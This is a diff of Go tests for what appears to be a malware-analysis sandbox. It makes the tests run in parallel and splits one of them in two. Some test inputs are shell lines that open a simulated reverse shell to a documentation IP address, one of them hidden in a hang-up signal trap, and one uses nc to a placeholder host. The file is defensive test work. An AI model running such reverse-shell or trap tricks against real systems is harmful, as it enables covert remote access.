@@ -47,6 +47,7 @@ func shell(text string) samples.Spec {
 var request = sandbox.Request{Reference: image.Reference{Registry: "samples.test", Repository: "x", Tag: "v1"}}
 
 func TestDemonstration(t *testing.T) {
+	t.Parallel()
 	r := newRunner(t, nil)
 	images, err := demo.Images(goruntime.GOARCH)
 	if err != nil {
@@ -70,6 +71,7 @@ func TestDemonstration(t *testing.T) {
 }
 
 func TestServerEndsWhenItOnlyWaits(t *testing.T) {
+	t.Parallel()
 	r := newRunner(t, nil)
 	spec := samples.Spec{Entrypoint: []string{"/bin/actor", "webserver", "8080"}}
 	rep := run(t, r, "web", buildSpec(t, spec)).Report
@@ -84,6 +86,7 @@ func TestServerEndsWhenItOnlyWaits(t *testing.T) {
 
 // TestLateServerIsWaitedFor: it listens at once, and long after that takes connections.
 func TestLateServerIsWaitedFor(t *testing.T) {
+	t.Parallel()
 	spec := samples.Spec{Entrypoint: []string{"/bin/actor", "late-server", "8080", "12s"}}
 	o := run(t, newRunner(t, nil), "late", buildSpec(t, spec))
 	for _, f := range o.Passes[0].Observation.Network.Flows {
@@ -101,6 +104,7 @@ func TestWorkingGuestIsNotIdle(t *testing.T) {
 		"talks now and then on one connection": "nc talk.example.test 9999 </tmp/words & while :; do sleep 0.2; echo word; done >/tmp/words",
 	} {
 		t.Run(name, func(t *testing.T) {
+			t.Parallel()
 			r := newRunner(t, func(c *sandbox.Config) { c.Idle, c.Timeout = 2*time.Second, 7*time.Second })
 			rep := run(t, r, "busy", buildSpec(t, shell(text))).Report
 			if rep.Run.Status != observation.Timeout || !rep.Run.Coverage.FullWindow {
@@ -132,6 +136,7 @@ func TestTimeoutOfTheRequest(t *testing.T) {
 // TestAnImageGetsTheVariablesThatItAsksFor: one after the other, as an
 // entrypoint finds out that they are missing.
 func TestAnImageGetsTheVariablesThatItAsksFor(t *testing.T) {
+	t.Parallel()
 	o := run(t, newRunner(t, nil), "database", buildSpec(t, shell(": ${DB_PASSWORD:?}; : ${LICENCE_KEY:?}; exec actor webserver 5432")))
 	c := o.Report.Run.Coverage
 	var names []string
@@ -178,6 +183,7 @@ func TestAnImageGetsTheVariablesThatItAsksFor(t *testing.T) {
 }
 
 func TestAnImageThatAsksWithoutEnd(t *testing.T) {
+	t.Parallel()
 	text := `n=$(env | grep -c '^PART_NUMBER_'); echo "PART_NUMBER_$n is not set" >&2; exit 1`
 	rep := run(t, newRunner(t, nil), "asking", buildSpec(t, shell(text))).Report
 	if c := rep.Run.Coverage; rep.Verdict != report.Inconclusive || len(c.Passes) != 4 || len(c.Skipped) != 1 {
@@ -187,6 +193,7 @@ func TestAnImageThatAsksWithoutEnd(t *testing.T) {
 
 // TestAGuestThatWasProvedNeedNotGoOn: its time is a minute, and it would use it.
 func TestAGuestThatWasProvedNeedNotGoOn(t *testing.T) {
+	t.Parallel()
 	rep := run(t, newRunner(t, nil), "busy", buildSpec(t, shell("actor reverse-shell 203.0.113.50:4444 & while :; do :; done"))).Report
 	if rep.Verdict != report.Malicious || rep.Run.Status != observation.Completed || rep.Run.Coverage.FullWindow || !strings.Contains(rep.Run.Reason, "proof") {
 		t.Errorf("%s, run %+v", rep.Verdict, rep.Run)
@@ -194,17 +201,23 @@ func TestAGuestThatWasProvedNeedNotGoOn(t *testing.T) {
 }
 
 func TestSomeShowWhatTheyAreWhenTheyAreToldToHangUp(t *testing.T) {
+	t.Parallel()
 	rep := run(t, newRunner(t, nil), "daemon", buildSpec(t, shell("trap 'exec actor reverse-shell 203.0.113.50:4444' HUP; actor webserver 4000 & wait"))).Report
 	if rep.Verdict != report.Malicious || len(rep.Run.Passes) != 1 {
 		t.Errorf("%s, run %+v", rep.Verdict, rep.Run)
 	}
-	rep = run(t, newRunner(t, nil), "settings", buildSpec(t, shell("trap 'echo ended; exit 3' HUP; actor webserver 4000 & wait"))).Report
+}
+
+func TestAGuestMayEndWhenItIsToldToHangUp(t *testing.T) {
+	t.Parallel()
+	rep := run(t, newRunner(t, nil), "settings", buildSpec(t, shell("trap 'echo ended; exit 3' HUP; actor webserver 4000 & wait"))).Report
 	if rep.Verdict != report.Clean || rep.Run.Exit != nil || rep.Run.Coverage.FullWindow || !strings.Contains(rep.Run.Reason, "hang up") {
 		t.Errorf("%s: %s, run %+v", rep.Verdict, rep.Summary, rep.Run)
 	}
 }
 
 func TestSilentPortsAreTold(t *testing.T) {
+	t.Parallel()
 	spec := samples.Spec{Entrypoint: []string{"/bin/actor", "webserver", "8080"}, Ports: []string{"8080/tcp", "9090/tcp"}}
 	c := run(t, newRunner(t, nil), "half", buildSpec(t, spec)).Report.Run.Coverage
 	if !slices.Equal(c.PortsProbed, []int{8080}) || !slices.Equal(c.PortsSilent, []int{9090}) {
